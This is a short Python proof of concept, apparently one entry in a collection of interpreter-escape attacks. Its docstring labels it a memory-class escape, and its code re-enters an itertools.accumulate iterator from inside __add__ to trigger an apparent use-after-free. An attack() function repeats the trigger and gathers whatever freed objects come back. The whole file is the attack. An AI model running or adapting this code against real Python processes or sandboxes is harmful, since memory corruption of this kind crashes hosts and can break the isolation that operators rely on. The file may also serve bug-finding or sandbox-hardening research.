"""Class: memory. Source: own find. Escape: the process breaks. A sum asks for the next one while it is added
to, and so is freed: the next object that is asked to add it is handed what was freed."""

from itertools import accumulate


class First:
    def __add__(self, other):
        if not asked:
            asked.append(1)
            next(sums)
            return NotImplemented
        return 5


class Rest:
    def __radd__(self, other):
        return other


asked = []


def attack(model, tokenizer, address):
    global sums
    kept = []
    for _ in range(200):
        asked.clear()
        sums = accumulate(Rest() if i else First() for i in range(10))
        next(sums)
        try:
            kept.append(next(sums))
        except TypeError:
            pass
    return repr(kept)
